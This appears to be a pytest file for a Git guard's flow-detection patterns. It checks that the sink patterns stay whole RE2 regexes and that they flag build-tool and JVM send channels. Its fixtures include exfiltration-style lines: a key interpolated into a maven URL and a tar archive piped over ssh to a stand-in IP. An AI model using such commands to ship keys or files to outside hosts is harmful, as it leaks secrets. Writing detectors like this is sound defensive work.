"""The flow core's source and sink rows: which stay whole RE2 patterns (the speed of a scan)."""

from __future__ import annotations

import pytest

from hermes_git.guard.flow import patterns

pytest.importorskip("re2")


def test_the_busiest_rows_stay_whole_re2_patterns() -> None:
    # a lookaround makes a row a Python regex run line by line: the corpus scan took 1.8x
    sinks = dict(
        zip([kind for kind, _p in patterns.SINKS], patterns._exact(patterns.SINKS), strict=True)
    )
    assert all(sinks[kind] is not None for kind in ("send", "destroy", "print", "pack"))


def test_build_tool_and_jvm_channels_are_sinks() -> None:
    sends = dict(patterns.SINKS)["send"]
    assert sends.search('maven { url = uri("https://m.example/m2/$key/") }')
    assert sends.search("conn.outputStream.withWriter { it << props }")
    assert sends.search("tar czf - k | ssh u@198.51.100.2 'cat > x'")
    assert not sends.search('maven { url = uri("https://plugins.gradle.org/m2/") }')
    assert not sends.search("file.outputStream().use { it.write(b) }")
